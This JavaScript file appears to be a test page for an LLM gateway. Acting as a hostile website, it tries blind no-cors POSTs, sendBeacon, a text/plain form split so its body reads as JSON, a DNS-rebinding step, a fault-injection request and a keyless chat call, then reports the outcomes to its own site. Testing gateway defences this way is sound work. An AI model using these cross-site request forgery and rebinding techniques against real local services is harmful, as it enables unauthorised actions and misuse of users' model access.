// What a web page tries at a gateway; `config` says where. It tells its own site what came of it.
const results = {};
const chatPath = "/v1/chat/completions";
const chat = (stream, model = "chat") =>
    JSON.stringify({ model, stream, messages: [{ role: "user", content: "Hello" }] });

async function attempt(name, run) {
    try { results[name] = await run(); } catch (error) { results[name] = "blocked: " + error.message; }
}

const send = (path, body, more) => fetch(config.gateway + path, { method: "POST", body, ...more });
const blindly = (base, path, body) =>
    fetch(base + path, { method: "POST", body, mode: "no-cors" }).then(reply => reply.type);
const asJSON = body =>
    send(chatPath, body, { headers: { ...config.headers, "content-type": "application/json" } });

async function told(reply) {
    const body = JSON.parse(await reply.text());
    const text = body.error ? body.error.code : body.choices[0].message.content;
    return [reply.status, reply.headers.get("x-holdfast-provider") ?? "-", text].join(" ");
}

async function streamed(reply) {
    const reader = reply.body.pipeThrough(new TextDecoderStream()).getReader();
    let text = "";
    for (let part = await reader.read(); !part.done; part = await reader.read()) text += part.value;
    const events = text.split("\n\n").filter(event => event.startsWith("data: {"));
    const words = events.map(event => JSON.parse(event.slice(6)).choices[0]?.delta?.content ?? "");
    return [reply.status, words.join(""), text.trimEnd().endsWith("data: [DONE]") ? "ended" : "cut"].join(" ");
}

// The oldest trick: a form whose only field is split so that the whole reads as JSON.
function submit(action) {
    const [before, after] = chat(false).split("Hello");
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "frame";
    Object.assign(form, { action, method: "post", enctype: "text/plain", target: "frame" });
    const field = document.createElement("input");
    Object.assign(field, { name: before, value: after });
    form.append(field);
    document.body.append(frame, form);
    return new Promise((done, failed) => {
        frame.onload = () => done("sent");
        setTimeout(() => failed(new Error("it did not load")), 5000);
        form.submit();
    });
}

async function run() {
    if (config.rebind) await fetch("/rebind");
    if (config.blind) {
        await attempt("text", () => blindly(config.gateway, chatPath, chat(false)));
        await attempt("untyped", () => blindly(config.gateway, chatPath, new Blob([chat(false)])));
        await attempt("beacon", () => navigator.sendBeacon(config.gateway + chatPath, chat(false)));
        await attempt("form", () => submit(config.gateway + chatPath));
        await attempt("fault", () => blindly(config.demo, "/demo/faults/alpha", '{"mode":"down"}'));
    }
    await attempt("models", () => fetch(config.gateway + "/v1/models", { headers: config.headers })
        .then(reply => reply.status));
    await attempt("json", () => asJSON(chat(false)).then(told));
    await attempt("stream", () => asJSON(chat(true)).then(streamed));
    await attempt("unknown", () => asJSON(chat(false, "unknown")).then(told));
    await attempt("without a key", () =>
        send(chatPath, chat(false), { headers: { "content-type": "application/json" } }).then(told));
    await fetch(config.report, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
}
run();
